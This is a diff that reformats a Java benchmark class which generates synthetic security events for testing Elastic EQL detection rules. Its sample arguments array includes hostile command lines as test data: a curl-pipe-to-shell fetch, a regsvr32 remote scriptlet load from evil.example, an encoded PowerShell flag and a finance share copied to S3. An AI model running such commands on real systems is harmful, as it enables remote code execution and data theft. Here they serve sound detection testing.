@@ -1,5 +1,15 @@
 package io.verdict.bench;
 
+import io.verdict.Shared;
+import io.verdict.eql.CompiledEql;
+import io.verdict.eql.EqlCompiler;
+import io.verdict.eql.ast.Expr;
+import io.verdict.eql.ast.Query;
+import io.verdict.rule.Language;
+import io.verdict.rule.Rule;
+import io.verdict.rule.RuleDirectories;
+import io.verdict.rule.RuleLoader;
+import io.verdict.rule.RuleSet;
 import java.io.IOException;
 import java.io.UncheckedIOException;
 import java.nio.charset.StandardCharsets;
@@ -12,17 +22,6 @@ import java.util.List;
 import java.util.Map;
 import java.util.Random;
 import java.util.stream.Stream;
-
-import io.verdict.Shared;
-import io.verdict.eql.CompiledEql;
-import io.verdict.eql.EqlCompiler;
-import io.verdict.eql.ast.Expr;
-import io.verdict.eql.ast.Query;
-import io.verdict.rule.Language;
-import io.verdict.rule.Rule;
-import io.verdict.rule.RuleDirectories;
-import io.verdict.rule.RuleLoader;
-import io.verdict.rule.RuleSet;
 import tools.jackson.databind.JsonNode;
 import tools.jackson.databind.json.JsonMapper;
 import tools.jackson.databind.node.ArrayNode;
@@ -39,25 +38,55 @@ import tools.jackson.databind.node.ObjectNode;
 public final class CorpusEvents {
 
     private static final JsonMapper JSON = JsonMapper.builder().build();
-    private static final String[] HOSTS = {"fin-ws-042", "dc01", "web-prod-7", "laptop-jdoe", "build-agent-3",
-            "sql02.corp.local", "ip-10-0-3-17", "mac-studio-11"};
-    private static final String[] USERS = {"j.doe", "SYSTEM", "root", "svc_backup", "alice", "Administrator",
-            "www-data", "m.rossi"};
-    private static final String[] PROCESSES = {"powershell.exe", "cmd.exe", "rundll32.exe", "svchost.exe", "bash",
-            "python3", "curl", "explorer.exe", "chrome.exe", "sshd", "osascript", "regsvr32.exe", "java", "node"};
-    private static final String[] ARGUMENTS = {"-enc SQBFAFgA", "/c whoami /all", "-c 'curl http://10.0.0.5/x | sh'",
-            "copy \\\\fs01\\finance :s3:bucket", "--no-sandbox", "-ExecutionPolicy Bypass -File run.ps1",
-            "/s /i:http://evil.example/x.sct scrobj.dll", "-m http.server 8000"};
+    private static final String[] HOSTS = {
+        "fin-ws-042",
+        "dc01",
+        "web-prod-7",
+        "laptop-jdoe",
+        "build-agent-3",
+        "sql02.corp.local",
+        "ip-10-0-3-17",
+        "mac-studio-11"
+    };
+    private static final String[] USERS = {
+        "j.doe", "SYSTEM", "root", "svc_backup", "alice", "Administrator", "www-data", "m.rossi"
+    };
+    private static final String[] PROCESSES = {
+        "powershell.exe",
+        "cmd.exe",
+        "rundll32.exe",
+        "svchost.exe",
+        "bash",
+        "python3",
+        "curl",
+        "explorer.exe",
+        "chrome.exe",
+        "sshd",
+        "osascript",
+        "regsvr32.exe",
+        "java",
+        "node"
+    };
+    private static final String[] ARGUMENTS = {
+        "-enc SQBFAFgA",
+        "/c whoami /all",
+        "-c 'curl http://10.0.0.5/x | sh'",
+        "copy \\\\fs01\\finance :s3:bucket",
+        "--no-sandbox",
+        "-ExecutionPolicy Bypass -File run.ps1",
+        "/s /i:http://evil.example/x.sct scrobj.dll",
+        "-m http.server 8000"
+    };
 
-    private CorpusEvents() {
-    }
+    private CorpusEvents() {}
 
     /** Every real document, one JSON text each, files in name order. */
     public static List<String> real() {
         Path dir = Shared.require("corpus/ecs-events");
         List<String> lines = new ArrayList<>();
         try (Stream<Path> files = Files.list(dir)) {
-            for (Path file : files.filter(f -> f.toString().endsWith(".ndjson")).sorted().toList()) {
+            for (Path file :
+                    files.filter(f -> f.toString().endsWith(".ndjson")).sorted().toList()) {
                 for (String line : Files.readAllLines(file, StandardCharsets.UTF_8)) {
                     if (!line.isBlank()) {
                         lines.add(line);
@@ -72,7 +101,8 @@ public final class CorpusEvents {
 
     /** The whole Elastic rule corpus. */
     public static RuleSet rules() {
-        return new RuleDirectories(new RuleLoader(), Clock.systemUTC()).load(List.of(Shared.require("corpus/detection-rules")));
+        return new RuleDirectories(new RuleLoader(), Clock.systemUTC())
+                .load(List.of(Shared.require("corpus/detection-rules")));
     }
 
     /** The real documents followed by {@code generated} variants; the same every run. */
@@ -89,13 +119,17 @@ public final class CorpusEvents {
      */
     public static List<String> variants(List<String> real, List<Craft> crafts, int count, long seed) {
         Random random = new Random(seed);
-        List<ObjectNode> documents = real.stream().map(l -> (ObjectNode) JSON.readTree(l)).toList();
+        List<ObjectNode> documents =
+                real.stream().map(l -> (ObjectNode) JSON.readTree(l)).toList();
         Map<String, List<ObjectNode>> byCategory = new LinkedHashMap<>();
         for (ObjectNode d : documents) {
             JsonNode category = d.path("event").path("category");
-            for (JsonNode c : category.isArray() ? category : JSON.createArrayNode().add(category)) {
+            for (JsonNode c :
+                    category.isArray() ? category : JSON.createArrayNode().add(category)) {
                 if (c.isString()) {
-                    byCategory.computeIfAbsent(c.stringValue(), k -> new ArrayList<>()).add(d);
+                    byCategory
+                            .computeIfAbsent(c.stringValue(), k -> new ArrayList<>())
+                            .add(d);
                 }
             }
         }
@@ -103,8 +137,10 @@ public final class CorpusEvents {
         for (int i = 0; i < count; i++) {
             boolean crafted = !crafts.isEmpty() && random.nextInt(5) == 0;
             Craft craft = crafted ? crafts.get(random.nextInt(crafts.size())) : null;
-            List<ObjectNode> pool = craft != null && craft.category() != null && byCategory.containsKey(craft.category())
-                    ? byCategory.get(craft.category()) : documents;
+            List<ObjectNode> pool =
+                    craft != null && craft.category() != null && byCategory.containsKey(craft.category())
+                            ? byCategory.get(craft.category())
+                            : documents;
             ObjectNode copy = pool.get(random.nextInt(pool.size())).deepCopy();
             vary(copy, random);
             if (craft != null) {
@@ -154,15 +190,16 @@ public final class CorpusEvents {
     }
 
     /** What a crafted document carries for one rule: its category and the literal each required field holds. */
-    public record Craft(String category, Map<String, String> fields) {
-    }
+    public record Craft(String category, Map<String, String> fields) {}
 
     /** The required literals of each single-event EQL rule with at least one, in rule order. */
     public static List<Craft> crafts(RuleSet rules) {
         EqlCompiler compiler = new EqlCompiler();
         List<Craft> crafts = new ArrayList<>();
         for (Rule rule : rules.rules()) {
-            if (rule.query() == null || rule.query().language() != Language.EQL || rule.query().text() == null) {
+            if (rule.query() == null
+                    || rule.query().language() != Language.EQL
+                    || rule.query().text() == null) {
                 continue;
             }
             CompiledEql eql;
@@ -185,14 +222,23 @@ public final class CorpusEvents {
     private static void conjuncts(Expr e, Map<String, String> fields) {
         if (e instanceof Expr.And a) {
             a.operands().forEach(operand -> conjuncts(operand, fields));
-        } else if (e instanceof Expr.Comparison c && c.op() == Expr.CompareOp.EQ && c.left() instanceof Expr.Field f
-                && c.right() instanceof Expr.Literal l && l.value() instanceof String s) {
+        } else if (e instanceof Expr.Comparison c
+                && c.op() == Expr.CompareOp.EQ
+                && c.left() instanceof Expr.Field f
+                && c.right() instanceof Expr.Literal l
+                && l.value() instanceof String s) {
             fields.putIfAbsent(f.name(), s);
-        } else if (e instanceof Expr.Match m && m.op() != Expr.MatchOp.REGEX && m.value() instanceof Expr.Field f
-                && m.patterns().get(0) instanceof Expr.Literal l && l.value() instanceof String s) {
+        } else if (e instanceof Expr.Match m
+                && m.op() != Expr.MatchOp.REGEX
+                && m.value() instanceof Expr.Field f
+                && m.patterns().get(0) instanceof Expr.Literal l
+                && l.value() instanceof String s) {
             fields.putIfAbsent(f.name(), s.replace("*", "x").replace("?", "y"));
-        } else if (e instanceof Expr.In in && !in.negated() && in.value() instanceof Expr.Field f
-                && in.list().get(0) instanceof Expr.Literal l && l.value() instanceof String s) {
+        } else if (e instanceof Expr.In in
+                && !in.negated()
+                && in.value() instanceof Expr.Field f
+                && in.list().get(0) instanceof Expr.Literal l
+                && l.value() instanceof String s) {
             fields.putIfAbsent(f.name(), s);
         }
     }
